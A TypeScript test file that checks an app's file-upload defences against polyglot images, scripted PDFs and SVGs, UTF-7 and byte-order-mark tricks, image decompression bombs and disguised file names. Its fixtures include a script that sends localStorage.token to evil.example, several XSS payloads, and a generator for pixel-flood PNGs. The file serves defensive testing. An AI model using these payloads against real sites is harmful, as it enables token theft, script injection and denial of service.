import { deflateSync } from "node:zlib";
import { expect, test } from "@jest/globals";
import { db } from "@/lib/server/db/client";
import { type Person, signUp } from "../support/api/client";
import { fetchFile, post, upload } from "../support/api/files";
import { drawing, photo, sayingSize, withChunks, withSegments } from "../support/factories/images";
import { pdf } from "../support/factories/pdf";

const script = "<script>fetch('https://evil.example/'+localStorage.token)</script>";
const page = `<!doctype html><html><body>${script}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const letter = pdf(["Dear Jens"]);
const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));

/** A PNG that is small on the wire and claims to be `side` by `side`. */
function bomb(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 0], 8);
  const start = drawing.subarray(0, 8);
  const chunks = withChunks(
    Buffer.concat([start, Buffer.alloc(25)]),
    ["IHDR", header],
    ["IDAT", deflateSync(Buffer.alloc(1e6))],
    ["IEND", ""],
  );
  return Buffer.concat([start, chunks.subarray(33)]);
}

/** Files of an accepted type that are valid files of another type, too. */
const polyglots: Record<string, Buffer> = {
  "a PNG with a page behind its end": join(drawing, page),
  "a PNG with a page in a text": withChunks(drawing, ["tEXt", `Comment\0${page}`]),
  "a PNG with a page in a chunk of its own": withChunks(drawing, ["hTMl", page]),
  "a JPEG with a page behind its end": join(photo, page),
  "a JPEG with a page in a comment": withSegments(photo, [0xfe, page]),
  "a JPEG that is a script as well": withSegments(photo, [0xe9, "*/=1;alert(1);/*"], [0xfe, "*/alert(2)//"]),
  "a JPEG with an archive behind its end": join(photo, "PK\x03\x04", page),
  "a picture with metadata for a page": withSegments(photo, [0xe1, `http://ns.adobe.com/xap/1.0/\0${svg}`]),
};
const active: Record<string, Buffer> = {
  "a PDF with a script": join(pdf(["x"]), "\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
  "a PDF with a page in it": join(pdf(["x"]), page),
  "a page that calls itself a PDF": join("%PDF-", page),
  "a text with a page further down": join("Dear diary\n", page),
  "a text that is a script": join("alert(document.domain)"),
  "a picture of a million pixels in a thousand bytes": bomb(1_000),
};
const refused: Record<string, Buffer> = {
  "an SVG": Buffer.from(svg),
  "a page": Buffer.from(page),
  "a page behind a byte order mark": join("\ufeff", page),
  "a page in UTF-16": Buffer.from(`\ufeff${page}`, "utf16le"),
  "a page in UTF-7": join("+ADw-script+AD4-alert(1)+ADw-/script+AD4-\0"),
  "an archive": join("PK\x03\x04\0\0", page),
  "a packed page": join(Buffer.from([0x1f, 0x8b, 8, 0]), deflateSync(page)),
  "a GIF that is a script": join("GIF89a/*\0", page),
  "a PNG of a hundred million pixels in a thousand bytes": bomb(10_000),
  "a JPEG of a hundred million pixels in a thousand bytes": sayingSize(photo, 10_000, 10_000),
  "a picture of more pixels": bomb(10_001),
  "a picture as large as its format allows": bomb(0x7fffffff),
  "a PNG without pixels": join(drawing.subarray(0, 33), page),
  "half a JPEG and a page": join(photo.subarray(0, 30), page),
};

async function answered(person: Person, content: Buffer, name: string) {
  return fetchFile((await upload(person, content, name)).file.fileUrl);
}

function expectHarmless(headers: Headers): void {
  const type = headers.get("content-type") ?? "";
  expect(type).toMatch(/^(image\/png|image\/jpeg|application\/pdf|text\/plain; charset=utf-8)$/);
  expect(headers.get("content-disposition")).toMatch(type.startsWith("image/") ? /^inline; / : /^attachment; /);
  expect(headers.get("content-security-policy")).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
  expect(headers.get("x-content-type-options")).toBe("nosniff");
}

test.each(Object.entries(polyglots))("%s is stored as the image that it is, without the rest", async (_, content) => {
  const { headers, bytes } = await answered(await signUp(), content, "picture.html");
  expectHarmless(headers);
  expect(bytes.toString("latin1")).not.toMatch(/script|onload|alert|PK/);
});

test.each(Object.entries(active))("%s is a download, or an image in which nothing can run", async (_, content) => {
  const { headers } = await answered(await signUp(), content, "x.svg");
  expectHarmless(headers);
});

test("everything else is refused, under any name and any claimed type", async () => {
  for (const [kind, content] of Object.entries(refused)) {
    const ann = await signUp();
    for (const name of ["x.png", "x.txt", "x.pdf", "x.svg", "x.png\u202etxt.html"]) {
      const form = new FormData();
      form.append("file", new Blob([new Uint8Array(content)], { type: "image/png" }), name);
      expect({ kind, status: (await post(ann, form)).status }).toEqual({ kind, status: 415 });
    }
  }
  expect(await db().file.count()).toBe(0);
});

test.each([
  ["x.hta", "x.hta.txt"],
  ["setup.bat", "setup.bat.txt"],
  ["invoice.html", "invoice.html.txt"],
  ["notes.txt\u202e", "notes.txt"],
  ["\u202etxt.exe", "txt.exe.txt"],
  ["a\u2066b\u200f\t.scr", "ab.scr.txt"],
  ["txt", "txt.txt"],
  ["\u200e", "file.txt"],
  ["Diary.TXT", "Diary.TXT"],
])("a text named %j is downloaded as %s, and keeps its name on the page", async (name, saved) => {
  const { file } = await upload(await signUp(), "echo hello", name);
  const { headers } = await fetchFile(file.fileUrl);
  expect(headers.get("content-disposition")).toMatch(new RegExp(`UTF-8''${saved}$`));
  expect(file.fileName).toBe(name);
});

test.each<[string, Buffer, string]>([
  ["photo.png.js", drawing, "photo.png.js.png"],
  ["door.JPEG", photo, "door.JPEG"],
  ["door.png", photo, "door.png.jpg"],
  ["letter.pdf.exe", letter, "letter.pdf.exe.pdf"],
  ["Ångström.pdf", letter, "%C3%85ngstr%C3%B6m.pdf"],
])("%s is downloaded with the ending of what it is: %#", async (name, content, saved) => {
  const { headers } = await answered(await signUp(), content, name);
  expect(headers.get("content-disposition")).toMatch(new RegExp(`UTF-8''${saved}$`));
});
